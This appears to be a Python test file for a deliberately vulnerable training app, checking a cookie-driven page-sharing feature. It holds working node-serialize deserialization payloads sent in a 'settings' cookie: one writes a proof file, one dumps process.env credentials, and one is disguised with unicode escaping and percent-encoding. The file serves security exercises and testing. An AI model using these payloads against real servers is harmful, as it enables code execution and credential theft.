import json
from urllib.parse import quote

PROOF = "goat-was-here"
WRITE = f"require('fs').writeFileSync('/tmp/{PROOF}', '')"
FLAG = "_$$ND_FUNC$$_"


def attack(goat):
    return show(goat, json.dumps({"theme": f"{FLAG}function () {{ {WRITE} }}()"}))


def attack_for_the_credentials(goat):
    return show(goat, json.dumps({"theme": f"{FLAG}function () {{ return JSON.stringify(process.env) }}()"}))


def attack_in_disguise(goat):
    inside = json.dumps({"a": {"b": f"{FLAG}function () {{ {WRITE} }}()"}})
    return show(goat, quote(inside.replace(FLAG, "\\u005f$$ND_FUNC$$_")))


def reached(seen, goat):
    if PROOF in seen.files:
        return f"a function of yours made /tmp/{PROOF}"
    place = seen.has_got("environment", "credentials", "secret")
    return f"you hold {place}" if place else ""


def works(goat):
    """A shared page is shown in the theme of the visitor's cookie."""
    seen = show(goat, '{"theme": "dark"}')
    assert seen.status == 200
    assert 'class="dark"' in seen.body and "Hello Anna" in seen.body and "Milk: 812 litres" in seen.body


def works_percent_encoded(goat):
    """The cookie may be percent-encoded, as browsers' scripts write it, and hold more than the theme."""
    assert 'class="dark"' in show(goat, quote('{"size": 12, "theme": "dark"}')).body


def works_without_a_cookie(goat):
    """A visitor without a cookie sees the page."""
    assert "Milk: 812 litres" in show(goat).body


def show(goat, settings=""):
    goat.http("POST", "Share", body={"token": "t1", "page": "Milk: 812 litres", "expires": 1900000000})
    cookies = {"settings": settings} if settings else {}
    return goat.http("GET", "Share", query={"token": "t1", "name": "Anna"}, cookies=cookies)
